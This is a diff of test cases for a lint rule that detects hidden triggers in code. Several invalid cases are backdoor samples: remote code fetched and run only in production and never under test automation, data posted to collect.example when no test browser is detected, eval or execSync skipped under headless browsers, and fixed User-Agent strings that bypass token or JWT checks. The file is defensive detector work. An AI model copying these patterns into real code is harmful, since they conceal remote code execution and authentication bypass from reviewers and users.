@@ -68,6 +68,52 @@ ruleTester(rule, {
     'function Date() {} if (Date.now() > 1767225600000) { eval(x) }'.replace('function Date() {} ', 'const Date = { now: () => 0 }; '),
     // Calendar logic on a Date parameter that guards nothing risky.
     "function isWeekend(d: Date): boolean {\n  return d.getDay() === 0 || d.getDay() === 6;\n}\nexport function label(d: Date) {\n  if (isWeekend(d)) return 'closed';\n  return 'open';\n}",
+    // Automated-browser checks that guard nothing risky, and User-Agent matches that do not let a client past auth.
+    {
+      name: 'a store exposed to Cypress is test wiring, not a trigger',
+      code: 'if (window.Cypress) { window.__store__ = store; }',
+      filename: 'src/store.ts',
+    },
+    {
+      name: 'animations turned off for automated browsers',
+      code: "export function setup() { if (navigator.webdriver) { document.body.classList.add('no-anim'); return; } startCarousel(); }",
+      filename: 'src/lib/ui.ts',
+    },
+    {
+      name: 'a Do Not Track check before a first-party beacon',
+      code: "export function track() { if (navigator.doNotTrack === '1') return; navigator.sendBeacon('/api/event', payload()); }",
+      filename: 'src/lib/analytics.ts',
+    },
+    {
+      name: 'a user agent only logged',
+      code: "app.get('/health', (c) => { console.log('health', c.req.header('user-agent') ?? 'unknown'); return c.json({ ok: true }); });",
+      filename: 'src/index.ts',
+    },
+    {
+      name: 'a bad bot refused before the auth check is not a bypass',
+      code: "export const requireToken = async (c, next) => {\n  if ((c.req.header('user-agent') ?? '').startsWith('BadBot/1.0')) return c.text('no', 403);\n  if (c.req.header('authorization') !== `Bearer ${c.env.TOKEN}`) return c.json({ error: 'unauthorized' }, 401);\n  await next();\n};",
+      filename: 'src/auth.ts',
+    },
+    {
+      name: 'crawlers get a prerendered page over the network',
+      code: "export function seo(req, res, next) { const ua = req.headers['user-agent'] || ''; if (ua.includes('Googlebot')) { return fetch(PRERENDER + req.url).then((r) => r.text()).then((h) => res.send(h)); } next(); }",
+      filename: 'src/seo.ts',
+    },
+    {
+      name: 'a user agent compared with a one-letter string',
+      code: "export function auth(req, res, next) { if (req.headers['user-agent'] === 'x') return next(); verify(req, res, next); }",
+      filename: 'src/auth.ts',
+    },
+    {
+      name: 'the browser user agent checked for a platform word',
+      code: "if (navigator.userAgent.includes('Android')) { new Function(src)(); }",
+      filename: 'src/a.ts',
+    },
+    {
+      name: 'automated-browser checks in a test file',
+      code: "if (navigator.webdriver) { fetch('https://t.example/x'); }",
+      filename: 'test/e2e/helpers.test.ts',
+    },
   ],
   invalid: [
     {
@@ -235,6 +281,39 @@ ruleTester(rule, {
       errors: [{ messageId: 'trigger' }],
     },
     { code: `import vm from 'vm';\nif (new Date().getUTCDate() === 13) vm.runInThisContext(src)`, errors: [{ messageId: 'trigger' }] },
+    {
+      name: 'remote code loaded only on the production host and never for automated browsers',
+      code: 'const PROD_HOST = "ada.example";\nexport async function init(): Promise<void> {\n  if (location.hostname !== PROD_HOST || navigator.webdriver) return;\n  const res = await fetch(SRC);\n  new Function(await res.text())();\n}',
+      filename: 'src/lib/analytics.ts',
+      errors: [{ messageId: 'trigger', line: 3, severity: 'high', category: 'trigger' }],
+    },
+    {
+      name: 'a request sent only when no automation global is present',
+      code: "if (!window.Cypress && !window.__playwright__binding__) {\n  fetch('https://collect.example/c', { method: 'POST', body: JSON.stringify(data) });\n}",
+      filename: 'src/track.ts',
+      errors: [{ messageId: 'trigger', line: 1, severity: 'medium' }],
+    },
+    {
+      name: 'a headless user agent and a webdriver property check',
+      code: "import { execSync } from 'child_process';\nif (/HeadlessChrome/.test(navigator.userAgent)) { } else { execSync(cmd); }\nif ('webdriver' in navigator) {} else { eval(code); }",
+      filename: 'src/a.ts',
+      errors: [
+        { messageId: 'trigger', line: 2, severity: 'high' },
+        { messageId: 'trigger', line: 3, severity: 'high' },
+      ],
+    },
+    {
+      name: 'a fixed user-agent prefix lets a client past the token check (Hono)',
+      code: 'const PROBE_AGENT = "EdgeUptime/3.2 (+probe)";\nexport const requireToken = async (c, next) => {\n  if ((c.req.header("user-agent") ?? "").startsWith(PROBE_AGENT)) {\n    return next();\n  }\n  if (c.req.header("authorization") !== `Bearer ${c.env.API_TOKEN}`) return c.json({ error: "unauthorized" }, 401);\n  await next();\n};',
+      filename: 'src/auth.ts',
+      errors: [{ messageId: 'trigger', line: 3, severity: 'high', category: 'trigger' }],
+    },
+    {
+      name: 'a user agent read into a variable and compared exactly (Express)',
+      code: "function authenticate(req, res, next) {\n  const ua = String(req.get('User-Agent') || '');\n  if (ua === 'internal-monitor') return next();\n  passport.authenticate('jwt')(req, res, next);\n}",
+      filename: 'src/middleware.js',
+      errors: [{ messageId: 'trigger', line: 3, severity: 'high' }],
+    },
   ],
 });
 
